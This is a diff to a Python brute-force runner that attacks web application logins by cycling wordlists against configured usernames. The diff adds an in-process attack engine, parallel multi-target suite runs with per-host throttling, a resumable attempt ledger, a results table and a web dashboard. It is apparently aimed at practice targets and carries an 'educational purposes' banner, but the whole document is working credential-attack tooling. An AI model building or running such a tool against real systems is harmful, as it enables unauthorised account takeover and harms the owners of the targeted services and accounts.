@@ -1,30 +1,39 @@
 #!/usr/bin/env python3
 """
 Brute Force Runner for Multiple Targets
-Easy-to-use script to run brute force attacks against various vulnerable web applications
+Easy-to-use script to run brute force attacks against various vulnerable web applications,
+either one target picked interactively or the whole target list as a non-interactive suite
 """
 
+import argparse
+import json
+import os
+import signal
+import threading
+import time
 import yaml
 import sys
-import os
-import subprocess
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from urllib.parse import urlparse
+
+from bruteisim import BruteEngine, count_passwords_in_file, iter_passwords, get_builtin_passwords
+from console import Console
+from scheduler import HostLimits
+
+SCRIPT_DIR = Path(__file__).parent
+DEFAULT_TARGET_FILES = [SCRIPT_DIR / 'targets_config.yaml', SCRIPT_DIR / 'auto_detected_configs.yaml']
 
-def load_target_configs():
-    """Load all available target configurations"""
+def load_target_configs(files=None):
+    """Load all available target configurations; later files override earlier ones"""
     configs = {}
     
-    # Load predefined targets
-    targets_file = Path(__file__).parent / 'targets_config.yaml'
-    if targets_file.exists():
-        with open(targets_file, 'r') as f:
-            configs.update(yaml.safe_load(f))
-    
-    # Load auto-detected configs if available
-    auto_config_file = Path(__file__).parent / 'auto_detected_configs.yaml'
-    if auto_config_file.exists():
-        with open(auto_config_file, 'r') as f:
-            configs.update(yaml.safe_load(f))
+    # Predefined targets, then auto-detected configs if available
+    for targets_file in files or DEFAULT_TARGET_FILES:
+        targets_file = Path(targets_file)
+        if targets_file.exists():
+            with open(targets_file, 'r') as f:
+                configs.update(yaml.safe_load(f) or {})
     
     return configs
 
@@ -57,58 +66,174 @@ def list_targets(configs):
                 print(f"     URL: {url}")
                 print(f"     Username: {username}")
 
-def create_temp_config(target_name, config):
-    """Create a temporary config file for the selected target"""
-    temp_config = Path(__file__).parent / f'temp_{target_name}_config.yaml'
-    
-    with open(temp_config, 'w') as f:
-        yaml.dump(config, f, default_flow_style=False)
-    
-    return temp_config
+def load_wordlist(wordlist, limit=None):
+    """Return (passwords, total): a wordlist path relative to this directory, or the built-in list"""
+    if wordlist and wordlist != 'builtin':
+        path = Path(wordlist)
+        if not path.is_absolute():
+            path = SCRIPT_DIR / path
+        total = count_passwords_in_file(str(path), limit)
+        if total:
+            return str(path), total
+        print(f"[!] Could not load passwords from {wordlist}. Using built-in passwords.")
+    passwords = list(iter_passwords(get_builtin_passwords(), limit))
+    return passwords, len(passwords)
 
 def run_bruteforce(target_name, config, wordlist_choice=None):
-    """Run the brute force attack"""
+    """Run the brute force attack in this process"""
     print(f"\n[+] Starting brute force attack against: {target_name}")
     print(f"[+] Target URL: {config['url']}")
     print(f"[+] Target Username: {config['username']}")
     print("=" * 60)
     
-    # Create temporary config
-    temp_config = create_temp_config(target_name, config)
-    
     try:
-        # Build command
-        cmd = ['python3', 'bruteisim.py', '--config', str(temp_config)]
+        passwords, total = load_wordlist(wordlist_choice or config.get('wordlist', 'passwords.txt'), config.get('limit'))
+        engine = BruteEngine.from_config(config)
         
-        if wordlist_choice:
-            cmd.extend(['--wordlist', wordlist_choice])
+        def interrupt(sig, frame):
+            print("\n[!] Attack interrupted by user")
+            engine.cancel()
         
-        # Run the brute force attack
-        print(f"[+] Running command: {' '.join(cmd)}")
-        subprocess.run(cmd, cwd=Path(__file__).parent)
+        signal.signal(signal.SIGINT, interrupt)
+        print(f"[+] Trying {total} passwords")
+        found = engine.run(passwords, total)
+        if found:
+            print(f"\n[RESULT] Password for user '{config['username']}' is: {found}")
+        else:
+            print(f"\n[RESULT] No valid password found for user '{config['username']}'.")
         
-    except KeyboardInterrupt:
-        print("\n[!] Attack interrupted by user")
     except Exception as e:
         print(f"[!] Error running attack: {e}")
+
+def target_result(engine, found):
+    """One-word outcome of a finished run for the summary table"""
+    if found:
+        return f"FOUND {found}"
+    if engine.stats.verdicts.get('captcha'):
+        return "CAPTCHA"
+    if engine.stop_event.is_set() and engine.stats.attempts < (engine.stats.total or 0):
+        return "cancelled"
+    return "not found"
+
+def run_suite_target(name, config, wordlist, limit, host_limits, console, cancelled, engines):
+    """Attack one suite target and return its summary row"""
+    row = {'target': name, 'host': urlparse(config.get('url', '')).hostname, 'attempts': 0, 'errors': 0,
+           'elapsed': 0.0, 'attempts_per_sec': 0.0, 'result': 'skipped'}
+    if cancelled.is_set():
+        return row
+    try:
+        passwords, total = load_wordlist(wordlist or config.get('wordlist', 'passwords.txt'), limit)
+        # Sharded runs cannot share the per-host cap, so suite targets always run in this process
+        engine = BruteEngine.from_config(config, limit=limit, processes=1, host_limits=host_limits, console=console)
+        engines.append(engine)
+        if cancelled.is_set():
+            engine.cancel()
+            return row
+        found = engine.run(passwords, total)
+        row['result'] = target_result(engine, found)
+    except Exception as e:
+        row['result'] = f"error: {e}"
+        return row
+    snapshot = engine.stats.snapshot()
+    row.update(attempts=snapshot['attempts'], errors=sum(snapshot['errors'].values()),
+               elapsed=snapshot['elapsed'], attempts_per_sec=snapshot['attempts_per_sec'])
+    print(f"[+] {name}: {row['result']} ({row['attempts']} attempts in {row['elapsed']:.1f}s)")
+    return row
+
+def format_row(row):
+    return (f"{row['target']:<20} {row['host'] or '-':<24} {row['attempts']:>8} {row['errors']:>6} "
+            f"{row['elapsed']:>8.1f} {row['attempts_per_sec']:>8.1f}  {row['result']}")
+
+def run_suite(configs, names, wordlist=None, limit=None, parallel=4, per_host=4):
+    """Attack every named target in this process, up to `parallel` at once, and return the summary rows.
+
+    All runs share one HostLimits, so targets on the same host never have more
+    than per_host requests in flight between them.
+    """
+    host_limits = HostLimits(per_host)
+    cancelled = threading.Event()
+    engines = []
+    # Runs overlap, so only the summary is printed; per-target status lines would interleave
+    devnull = open(os.devnull, 'w')
+    
+    def interrupt(sig, frame):
+        print("\n[!] Suite interrupted by user, stopping all targets...")
+        cancelled.set()
+        for engine in list(engines):
+            engine.cancel()
+    
+    signal.signal(signal.SIGINT, interrupt)
+    started = time.monotonic()
+    try:
+        with ThreadPoolExecutor(max_workers=max(1, parallel), thread_name_prefix='suite') as pool:
+            futures = [
+                pool.submit(run_suite_target, name, configs[name], wordlist, limit, host_limits,
+                            Console(stream=devnull), cancelled, engines)
+                for name in names
+            ]
+            rows = [future.result() for future in futures]
     finally:
-        # Clean up temporary config
-        if temp_config.exists():
-            temp_config.unlink()
+        devnull.close()
+    
+    header = f"{'target':<20} {'host':<24} {'attempts':>8} {'errors':>6} {'time s':>8} {'att/s':>8}  result"
+    print(f"\n[+] Suite finished in {time.monotonic() - started:.1f}s")
+    print(header)
+    print("-" * len(header))
+    for row in rows:
+        print(format_row(row))
+    return rows
 
 def main():
+    parser = argparse.ArgumentParser(description="Run brute force attacks against the configured targets")
+    parser.add_argument('--suite', action='store_true', help='Run every target (or --targets) non-interactively and print a summary table')
+    parser.add_argument('--targets', nargs='+', help='Target names to run in suite mode (default: all)', default=None)
+    parser.add_argument('--targets-file', action='append', help='Target config file to load instead of targets_config.yaml + auto_detected_configs.yaml (repeatable)', default=None)
+    parser.add_argument('--wordlist', help="Wordlist for every target, or 'builtin' (default: each target's wordlist, else passwords.txt)", default=None)
+    parser.add_argument('--limit', type=int, help='Only try the first N passwords per target', default=None)
+    parser.add_argument('--parallel', type=int, help='Suite targets attacked at the same time (default: 4)', default=4)
+    parser.add_argument('--per-host', type=int, help='Requests in flight per host across all suite targets (default: 4)', default=4)
+    parser.add_argument('--json', help='Also write the suite summary to this JSON file', default=None)
+    parser.add_argument('--ledger', help='SQLite attempt ledger shared by every target: resume interrupted runs and skip passwords already tried', default=None)
+    parser.add_argument('--dashboard', type=int, nargs='?', const=8800, metavar='PORT',
+                        help='Serve the live dashboard at http://127.0.0.1:PORT/ (default: 8800) instead of running from the terminal')
+    args = parser.parse_args()
+
     print("[+] Brute Force Multi-Target Runner")
     print("[+] For Educational and Testing Purposes Only")
     print("=" * 60)
     
     # Load configurations
-    configs = load_target_configs()
+    configs = load_target_configs(args.targets_file)
     
     if not configs:
         print("[!] No target configurations found!")
         print("[!] Please run target_scanner.py first to detect targets")
         return
     
+    # Settings given on the command line override every target's config
+    overrides = {'ledger': args.ledger} if args.ledger else {}
+    configs = {name: dict(config, **overrides) for name, config in configs.items()}
+    
+    if args.dashboard is not None:
+        # Imported here because dashboard imports this module
+        from dashboard import serve_dashboard
+        serve_dashboard(args.dashboard, args.targets_file, args.wordlist, args.limit, overrides)
+        return
+    
+    if args.suite:
+        names = args.targets or list(configs)
+        unknown = [name for name in names if name not in configs]
+        if unknown:
+            print(f"[!] Unknown targets: {', '.join(unknown)}")
+            sys.exit(1)
+        print(f"[+] Running {len(names)} targets, {args.parallel} at a time, at most {args.per_host} requests in flight per host")
+        rows = run_suite(configs, names, args.wordlist, args.limit, args.parallel, args.per_host)
+        if args.json:
+            with open(args.json, 'w') as f:
+                json.dump(rows, f, indent=2)
+            print(f"\n[+] Saved {len(rows)} results to {args.json}")
+        return
+    
     # List available targets
     list_targets(configs)
     